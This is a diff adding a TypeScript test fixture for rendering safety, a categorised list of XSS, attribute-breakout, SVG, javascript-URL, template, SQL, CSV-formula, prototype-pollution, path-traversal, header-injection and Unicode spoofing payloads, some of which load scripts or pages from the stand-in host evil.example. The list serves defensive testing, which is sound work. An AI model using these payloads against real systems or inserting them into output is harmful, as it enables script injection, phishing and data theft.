@@ -1,0 +1,141 @@
+/**
+ * Texts that try to become more than text: markup, attributes, addresses, scripts in JSON, templates, styles, and
+ * letters that deceive the eye. `canary` (watch-page.js) tells if one runs; nothing of `evil.example` may be asked for.
+ */
+const FAR = "//evil.example"
+
+const MARKUP = [
+  "<script>canary(1)</script>",
+  "</script><script>canary(1)</script>",
+  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+  "<scr<script>ipt>canary(1)</scr</script>ipt>",
+  "<script/x>canary(1)</script>",
+  "<script type=module>canary(1)</script>",
+  "<script>canary(1)//",
+  "</title><script>canary(1)</script>",
+  "</textarea><script>canary(1)</script>",
+  "</style><script>canary(1)</script>",
+  "</option></select><img src=x onerror=canary(1)>",
+  "<!--><script>canary(1)</script>-->",
+  "--><img src=x onerror=canary(1)><!--",
+  "]]><img src=x onerror=canary(1)>",
+  "<![CDATA[<img src=x onerror=canary(1)>]]>",
+  "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>canary(1)</script>",
+  "<noscript><p title='</noscript><img src=x onerror=canary(1)>'>",
+  "<template><img src=x onerror=canary(1)></template>",
+  "<plaintext>",
+  "<base href=//evil.example/>",
+  `<meta http-equiv=refresh content="0;url=${FAR}">`,
+  "<meta http-equiv=refresh content='0;javascript:canary(1)'>",
+  `<link rel=stylesheet href=${FAR}/a.css>`,
+  `<link rel=prefetch href=${FAR}/a>`,
+  `<iframe src=${FAR}></iframe>`,
+  "<iframe srcdoc='<script>parent.canary(1)</script>'></iframe>",
+  `<object data=${FAR}></object><embed src=${FAR}>`,
+  `<form action=${FAR}><button>Save</button></form>`,
+  "<form id=x></form><button form=x formaction=javascript:canary(1)>Go</button>",
+  `<input type=image src=${FAR}/a.png autofocus onfocus=canary(1)>`,
+  `<video poster=${FAR}/a.png><source onerror=canary(1) src=x></video>`,
+  "<audio src=x onerror=canary(1)>",
+  "<marquee onstart=canary(1)>x</marquee>",
+  "<details open ontoggle=canary(1)>x</details>",
+  "<dialog open onclose=canary(1)>x</dialog>",
+  "<body onload=canary(1)>",
+  "<math><mi//xlink:href='data:x,<script>canary(1)</script>'>",
+  "<div style='background:url(//evil.example/a.png)'>x</div>",
+  "<style>*{background:url(//evil.example/a.png)}</style>",
+  "<style>@import'//evil.example/a.css';</style>",
+]
+
+const ATTRIBUTES = [
+  `"><img src=x onerror=canary(1)>`,
+  "'><img src=x onerror=canary(1)>",
+  `" onmouseover="canary(1)" x="`,
+  "' onfocus='canary(1)' autofocus x='",
+  `" autofocus onfocus=canary(1) x="`,
+  "` onmouseover=canary(1)",
+  `x" style="position:fixed;inset:0;background:url(${FAR}/a.png)`,
+  `"/><svg onload=canary(1)>`,
+  `" srcdoc="<script>canary(1)</script>`,
+  `" formaction="javascript:canary(1)`,
+  `\\"><img src=x onerror=canary(1)>`,
+  `&quot;><img src=x onerror=canary(1)>`,
+  `&#34;&#62;&#60;img src=x onerror=canary(1)&#62;`,
+  "&lt;script&gt;canary(1)&lt;/script&gt;",
+  "%22%3E%3Cscript%3Ecanary(1)%3C/script%3E",
+  "\\u003cscript\\u003ecanary(1)\\u003c/script\\u003e",
+]
+
+const SVG = [
+  "<svg onload=canary(1)>",
+  "<svg><script>canary(1)</script></svg>",
+  "<svg><animate onbegin=canary(1) attributeName=x dur=1s>",
+  "<svg><set attributeName=href to=javascript:canary(1)>",
+  `<svg><use href=${FAR}/a.svg#x>`,
+  `<svg><image href=${FAR}/a.png>`,
+  "<svg><foreignObject><img src=x onerror=canary(1)></foreignObject></svg>",
+  "<svg><a xlink:href=javascript:canary(1)><text y=9>x</text></a>",
+]
+
+const ADDRESSES = [
+  "javascript:canary(1)",
+  "JaVaScRiPt:canary(1)",
+  "java\tscript:canary(1)",
+  "\u0001javascript:canary(1)",
+  "javascript://evil.example/%0Acanary(1)",
+  "data:text/html,<script>canary(1)</script>",
+  "data:image/svg+xml,<svg onload=canary(1)>",
+  "vbscript:canary(1)",
+  "blob:https://evil.example/1",
+  "//evil.example/",
+  "\\\\evil.example\\share",
+  "https:evil.example",
+  "/\\evil.example",
+  "http://user:password@evil.example/",
+]
+
+const TEMPLATES = [
+  "{{constructor.constructor('canary(1)')()}}",
+  `\${canary(1)}`,
+  "<%= canary(1) %>",
+  "#{canary(1)}",
+  "{url} {name} {0} {count}",
+  "$& $1 $` $'",
+  "%s %d %n %x",
+  "'; drop table objects; --",
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example","x")',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '{"__proto__":{"admin":true}}',
+  "__proto__",
+  "../../../../etc/passwd",
+  "a\r\nset-cookie: session=evil",
+]
+
+const LETTERS = [
+  "invoice\u202Efdp.exe",
+  "\u2066\u202Eabc\u2069",
+  "pay\u200Bpal.example",
+  "pay\u00ADpal.example",
+  "p\u0430ypal.example",
+  "\uFEFFbom\u2060joiner",
+  "Z\u0335\u0353a\u0335\u0353l\u0335\u0353g\u0335\u0353o\u0335\u0353",
+  "\u{1F468}\u200D\u{1F469}\u200D\u{1F467}",
+  "\u{E0041}\u{E0042}tags",
+  "nul\u0000nul",
+  "esc\u001B[31mred\u0007",
+  "line\u2028separator\u2029paragraph",
+  "w".repeat(2000),
+  "字".repeat(1500),
+  "a\u0301".repeat(400),
+]
+
+/** All of them, each with its number where it calls. */
+export const payloads: readonly string[] = [
+  ...MARKUP,
+  ...ATTRIBUTES,
+  ...SVG,
+  ...ADDRESSES,
+  ...TEMPLATES,
+  ...LETTERS,
+].map((text, at) => text.replaceAll("canary(1)", `canary(${at})`))
